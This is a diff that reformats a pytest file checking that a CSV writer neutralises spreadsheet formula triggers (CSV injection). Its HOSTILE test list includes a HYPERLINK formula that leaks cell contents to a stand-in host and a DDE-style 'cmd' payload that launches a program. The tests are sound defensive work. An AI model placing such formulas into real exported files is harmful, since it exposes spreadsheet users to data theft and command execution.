@@ -22,7 +22,8 @@ from budgetlab.errors import ConfigError
 from budgetlab.interop.openslo import read_recalibration_table
 
 # what a spreadsheet runs, one per trigger (OWASP "CSV injection"), and harmless look-alikes
-HOSTILE = ['=HYPERLINK("http://x.example/?a="&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
+HOSTILE = ['=HYPERLINK("http://x.example/?a="&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3",
+           "@SUM(A1:A2)",
            "\t=1+1", "\r=1+1", "'=already quoted", "''-twice"]
 PLAIN = ["fra", "a=b", "x-y", "'quoted", "", "1e5", "turnstile"]
 
@@ -33,7 +34,8 @@ def _raw_cells(path: Path) -> list[list[str]]:
 
 
 def test_each_trigger_gets_one_quote_and_nothing_else_changes():
-    t = pd.DataFrame({"key": HOSTILE + PLAIN, "rate": [-0.5 + i for i in range(len(HOSTILE + PLAIN))]})
+    t = pd.DataFrame({"key": HOSTILE + PLAIN,
+                      "rate": [-0.5 + i for i in range(len(HOSTILE + PLAIN))]})
     out = neutralise(t)
     assert out["key"].tolist() == ["'" + v for v in HOSTILE] + PLAIN  # hand-written expectation
     assert out["rate"].tolist() == t["rate"].tolist()  # numbers untouched, negative ones included
@@ -41,10 +43,12 @@ def test_each_trigger_gets_one_quote_and_nothing_else_changes():
 
 
 def test_categorical_keys_column_names_and_missing_values():
-    t = pd.DataFrame({"=g": pd.Categorical(["-x", "fra", "-x"]), "s": pd.array(["@a", None, "b"], dtype="string")})
+    t = pd.DataFrame({"=g": pd.Categorical(["-x", "fra", "-x"]), "s": pd.array(["@a", None, "b"],
+                                                                               dtype="string")})
     out = neutralise(t)
     assert list(out.columns) == ["'=g", "s"]
-    assert out["'=g"].tolist() == ["'-x", "fra", "'-x"] and isinstance(out["'=g"].dtype, pd.CategoricalDtype)
+    assert out["'=g"].tolist() == ["'-x", "fra", "'-x"] and isinstance(out["'=g"].dtype,
+                                                                       pd.CategoricalDtype)
     assert out["s"].iloc[0] == "'@a" and out["s"].isna().tolist() == [False, True, False]
 
 
@@ -57,10 +61,12 @@ def test_the_rule_is_one_to_one(value):
 
 @pytest.mark.parametrize("dtype", ["str", "category"])
 def test_write_table_neutralises_and_the_file_reads_back(tmp_path, dtype):
-    t = pd.DataFrame({"key": pd.Series(HOSTILE + PLAIN).astype(dtype), "n": range(len(HOSTILE + PLAIN))})
+    t = pd.DataFrame({"key": pd.Series(HOSTILE + PLAIN).astype(dtype),
+                      "n": range(len(HOSTILE + PLAIN))})
     path = write_table(t, tmp_path / "t.csv")
     cells = _raw_cells(path)
-    assert [row[0] for row in cells[1:]] == ["'" + v for v in HOSTILE] + PLAIN  # as the spreadsheet sees them
+    # as the spreadsheet sees them
+    assert [row[0] for row in cells[1:]] == ["'" + v for v in HOSTILE] + PLAIN
     back = restore_frame(pd.read_csv(path, dtype=str, keep_default_na=False))
     assert back["key"].tolist() == HOSTILE + PLAIN
 
@@ -74,7 +80,8 @@ def test_parquet_outputs_are_not_changed(tmp_path):
 
 def test_the_recalibration_table_reads_back_the_keys_written(tmp_path):
     keys = ["=cmd", "-fra", "+ams", "@home", "'=q", "turnstile"]
-    summary = pd.DataFrame({"captcha_type": keys, "events": [900] * len(keys), "recommended_target": [0.93] * len(keys)})
+    summary = pd.DataFrame({"captcha_type": keys, "events": [900] * len(keys),
+                            "recommended_target": [0.93] * len(keys)})
     path = write_table(summary, tmp_path / "rec.csv")
     table = read_recalibration_table(path)
     assert table["captcha_type"].tolist() == keys and table.attrs["by"] == ["captcha_type"]
@@ -82,8 +89,10 @@ def test_the_recalibration_table_reads_back_the_keys_written(tmp_path):
 
 def test_the_incidents_file_reads_back_the_values_written(tmp_path):
     incidents = pd.DataFrame({"incident_id": ["=1+2", "-i2", "i3"],
-                              "start": ["2026-01-05T10:00:00Z"] * 3, "end": ["2026-01-05T11:00:00Z"] * 3,
-                              "scope": ["region=fra", "*", "region=-x"], "kind": ["@outage", "timeout", "+x"]})
+                              "start": ["2026-01-05T10:00:00Z"] * 3,
+                              "end": ["2026-01-05T11:00:00Z"] * 3,
+                              "scope": ["region=fra", "*", "region=-x"], "kind": ["@outage",
+                                                                                  "timeout", "+x"]})
     path = write_table(incidents, tmp_path / "incidents.csv")
     assert _raw_cells(path)[1][0] == "'=1+2"
     back = read_incidents(path)
@@ -110,11 +119,15 @@ def test_a_dataset_incident_file_reads_back(tmp_path):
 
 def test_the_cli_writes_group_keys_neutralised(tmp_path, capsys):
     log = tmp_path / "log.csv"
-    rows = ["ts,outcome,captcha_type"] + [f"2026-01-05T00:{m:02d}:00Z,{'success' if m % 3 else 'timeout'},"
-                                          f"{'=HYPERLINK(1)' if m % 2 else '-fra'}" for m in range(40)]
+    rows = ["ts,outcome,captcha_type"] + [
+        f"2026-01-05T00:{m:02d}:00Z,{'success' if m % 3 else 'timeout'},"
+        f"{'=HYPERLINK(1)' if m % 2 else '-fra'}"
+        for m in range(40)
+    ]
     log.write_text("\n".join(rows) + "\n", encoding="utf-8")
     out = tmp_path / "tr.csv"
-    rc = main(["replay", str(log), "--by", "captcha_type", "--target", "0.5", "--window", "10min", "--out", str(out)])
+    rc = main(["replay", str(log), "--by", "captcha_type", "--target", "0.5", "--window", "10min",
+               "--out", str(out)])
     assert rc == 0, capsys.readouterr().err
     header, *rows = _raw_cells(out)
     col = header.index("captcha_type")
@@ -136,7 +149,8 @@ def unwritable(tmp_path: Path):
         if sysfs.is_dir() and not _can_create(sysfs):
             yield sysfs
             return
-        pytest.skip("permissions do not stop this user (root) and there is no /sys: no unwritable folder")
+        pytest.skip("permissions do not stop this user (root) and there is no /sys: no unwritable "
+                    "folder")
     finally:
         folder.chmod(stat.S_IRWXU)
 
@@ -154,8 +168,11 @@ def _can_create(folder: Path) -> bool:
 def test_an_unwritable_folder_is_refused_by_the_users_path(unwritable):
     before = sorted(os.listdir(unwritable))
     new_run()
-    with pytest.raises(ConfigError, match=rf"^'out.csv': cannot be written, its folder '{unwritable.name}' does not "
-                                          r"let budgetlab create files \((Permission denied|Read-only file system)\)"):
+    with pytest.raises(ConfigError,
+                       match=rf"^'out.csv': cannot be written, its folder '{unwritable.name}' does "
+                             r"not "
+                                          r"let budgetlab create files \((Permission "
+                                          r"denied|Read-only file system)\)"):
         plan_outputs({"--out": unwritable / "out.csv"})
     with pytest.raises(ConfigError, match=r"'t.csv': cannot be written") as info:
         write_table(pd.DataFrame({"a": [1]}), unwritable / "t.csv")
